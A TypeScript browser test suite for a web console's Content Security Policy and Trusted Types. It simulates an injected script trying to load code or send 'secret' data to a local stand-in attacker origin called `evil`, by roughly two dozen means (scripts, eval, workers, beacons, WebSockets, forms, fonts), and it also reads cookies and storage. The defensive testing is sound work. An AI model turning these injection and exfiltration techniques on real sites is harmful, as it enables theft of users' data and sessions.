import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { isFirefox } from './browser.ts';
import { signIn } from './people.ts';
import { type Stage, setStage, type Visit } from './stage.ts';

declare global {
  /** What the script that got in makes its texts with, where the browser asks for trusted ones. */
  var own: Record<'createHTML' | 'createScript' | 'createScriptURL', (text: string) => never>;
}

/** Where it would fetch more of itself, and where it would carry things. */
const reached: string[] = [];
const elsewhere = createServer(({ url = '' }, response) => {
  reached.push(url);
  const headers = { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' };
  response.writeHead(200, headers).end('globalThis.hit = true');
}).on('upgrade', ({ url = '' }, socket) => {
  reached.push(url);
  socket.destroy();
});

let stage: Stage;
let visit: Visit;
let evil: string;

beforeAll(async () => {
  elsewhere.listen(0, '127.0.0.1');
  await once(elsewhere, 'listening');
  evil = `http://localhost:${(elsewhere.address() as AddressInfo).port}`;
  stage = await setStage();
  visit = await stage.open();
  await signIn(visit, stage);
});
afterAll(async () => {
  await stage?.close();
  elsewhere.close();
});

beforeEach(async () => {
  visit.faults.length = 0;
  await visit.page.goto(`${stage.base}/console/`);
  await visit.page.evaluate(() => {
    const { trustedTypes } = globalThis as unknown as {
      trustedTypes: { createPolicy(name: string, rules: object): typeof own };
    };
    const as = (text: string) => text;
    globalThis.own = trustedTypes.createPolicy('own', {
      ...{ createHTML: as, createScript: as, createScriptURL: as },
    });
  });
});

/**
 * Runs in the page, let in by the browser itself; what it does there is held to the policy like all else.
 * `evil` is an origin, and the first word of a row the part of the policy that says no.
 */
type Deed = (evil: string) => unknown;

const scripts: [directive: string, what: string, deed: Deed][] = [
  [
    'script-src-elem',
    'an inline script',
    () => {
      const script = document.createElement('script');
      script.text = own.createScript('globalThis.hit = true');
      document.body.append(script);
    },
  ],
  [
    'script-src-elem',
    'a script of another origin',
    (evil) => {
      const script = document.createElement('script');
      script.src = own.createScriptURL(`${evil}/script.js`);
      document.body.append(script);
    },
  ],
  [
    'script-src-elem',
    'a script of a data: address',
    () => {
      const script = document.createElement('script');
      script.src = own.createScriptURL('data:text/javascript,globalThis.hit=true');
      document.body.append(script);
    },
  ],
  [
    'script-src-elem',
    'a script of a blob: address',
    () => {
      const script = document.createElement('script');
      script.src = own.createScriptURL(URL.createObjectURL(new Blob(['globalThis.hit=true'])));
      document.body.append(script);
    },
  ],
  [
    'script-src-elem',
    'a module of another origin',
    (evil) => {
      const script = document.createElement('script');
      script.type = 'module';
      script.src = own.createScriptURL(`${evil}/module.js`);
      document.body.append(script);
    },
  ],
  [
    'script-src-attr',
    'a handler in an attribute',
    () => {
      const markup = '<img src="data:," onerror="globalThis.hit = true">';
      document.body.insertAdjacentHTML('beforeend', own.createHTML(markup));
    },
  ],
  [
    'require-trusted-types-for',
    'markup out of a text',
    () => document.body.insertAdjacentHTML('beforeend', '<i>text</i>'),
  ],
  [
    'script-src-elem',
    'a link to javascript:',
    () => {
      const link = document.createElement('a');
      link.href = 'javascript:void(globalThis.hit = true)';
      document.body.append(link);
      link.click();
    },
  ],
  [
    'script-src',
    'a text that is evaluated',
    // Later, when it is not the browser's own evaluation any more.
    () =>
      void setTimeout(() =>
        Reflect.get(globalThis, 'eval')(own.createScript('globalThis.hit = true')),
      ),
  ],
  [
    'worker-src',
    'a worker',
    () => new Worker(own.createScriptURL(URL.createObjectURL(new Blob(['postMessage(1)'])))),
  ],
  [
    'script-src-elem',
    'a frame with a script in it',
    () => {
      const frame = document.createElement('iframe');
      frame.srcdoc = own.createHTML('<script>parent.hit = true</script>');
      document.body.append(frame);
    },
  ],
  [
    'object-src',
    'a plug-in',
    (evil) => {
      const object = document.createElement('object');
      object.data = own.createScriptURL(`${evil}/object`);
      document.body.append(object);
    },
  ],
  [
    'base-uri',
    'another base for every address',
    (evil) => {
      const base = document.createElement('base');
      base.href = `${evil}/`;
      document.head.prepend(base);
      const script = document.createElement('script');
      script.src = own.createScriptURL('assets/more.js');
      document.body.append(script);
    },
  ],
];

const ways: typeof scripts = [
  [
    'img-src',
    'an image',
    (evil) => {
      new Image().src = `${evil}/image?secret`;
    },
  ],
  [
    'img-src',
    'a background',
    (evil) => {
      document.body.style.backgroundImage = `url(${evil}/background?secret)`;
    },
  ],
  ['connect-src', 'fetch', (evil) => void fetch(`${evil}/fetch?secret`).catch(() => {})],
  [
    'connect-src',
    'an XMLHttpRequest',
    (evil) => {
      const request = new XMLHttpRequest();
      request.open('POST', `${evil}/request`);
      request.send('secret');
    },
  ],
  ['connect-src', 'a beacon', (evil) => navigator.sendBeacon(`${evil}/beacon`, 'secret')],
  ['connect-src', 'a stream', (evil) => void new EventSource(`${evil}/stream?secret`)],
  [
    'connect-src',
    'a WebSocket',
    (evil) => void new WebSocket(`${evil.replace('http', 'ws')}/socket?secret`),
  ],
  [
    'form-action',
    'a form',
    (evil) => {
      const form = document.createElement('form');
      Object.assign(form, { action: `${evil}/form`, method: 'post' });
      document.body.append(form);
      form.submit();
    },
  ],
  [
    'frame-src',
    'a frame',
    (evil) => {
      const frame = document.createElement('iframe');
      frame.src = `${evil}/frame?secret`;
      document.body.append(frame);
    },
  ],
  [
    'style-src-elem',
    'a stylesheet',
    (evil) => {
      const link = document.createElement('link');
      Object.assign(link, { rel: 'stylesheet', href: `${evil}/style?secret` });
      document.head.append(link);
    },
  ],
  [
    'style-src-elem',
    'rules of its own',
    (evil) => {
      const style = document.createElement('style');
      style.textContent = `body { background: url(${evil}/rule?secret) }`;
      document.head.append(style);
    },
  ],
  [
    'font-src',
    'a font',
    (evil) => void new FontFace('x', `url(${evil}/font?secret)`).load().catch(() => {}),
  ],
  ['media-src', 'a sound', (evil) => void new Audio(`${evil}/sound?secret`).play().catch(() => {})],
];

describe.each([
  ['[CA-15] a script that got in runs no more of itself', scripts],
  ['[CA-15] a script that got in carries nothing away', ways],
])('%s', (_what, table) => {
  it.each(table)('%s: %s', async (directive, _deed, deed) => {
    // What throws has failed as well as what is passed over.
    await visit.page.evaluate(deed, evil).catch(() => {});
    if (!isFirefox)
      await expect
        .poll(() => visit.faults)
        .toContainEqual(expect.stringMatching(new RegExp(`^${directive} blocked`)));
    // Firefox tells of some by another name, of a frame inside it.
    else await visit.page.waitForTimeout(500);
    expect(await visit.page.evaluate(() => 'hit' in globalThis)).toBe(false);
    expect(reached).toEqual([]);
  });
});

it('without the policy all of that goes out', async () => {
  await using free = await stage.open();
  for (const [, what, deed] of ways) {
    // One of its own: some lead away, and not at once.
    const page = await free.context.newPage();
    await page.goto(`${evil}/`);
    reached.length = 0;
    await page.evaluate(deed, evil).catch(() => {});
    await expect
      .poll(() => reached, { message: what })
      .toContainEqual(expect.stringMatching(/^\/(?!favicon)\w/));
    await page.close();
  }
  reached.length = 0;
});

it('[CA-15] a script that got in finds no token: a browser keeps it for itself', async () => {
  const session = (await visit.context.cookies()).find(({ name }) => name === 'throughline');
  expect(session).toMatchObject({ httpOnly: true });
  const found = await visit.page.evaluate(async () => {
    const mine = await fetch('/v1/session');
    return [
      document.cookie,
      JSON.stringify({ ...localStorage }),
      JSON.stringify({ ...sessionStorage }),
      document.documentElement.outerHTML,
      JSON.stringify([...mine.headers]),
      await mine.text(),
    ].join('\n');
  });
  expect(found).toContain('csrf');
  expect(found).not.toContain(session?.value);
});
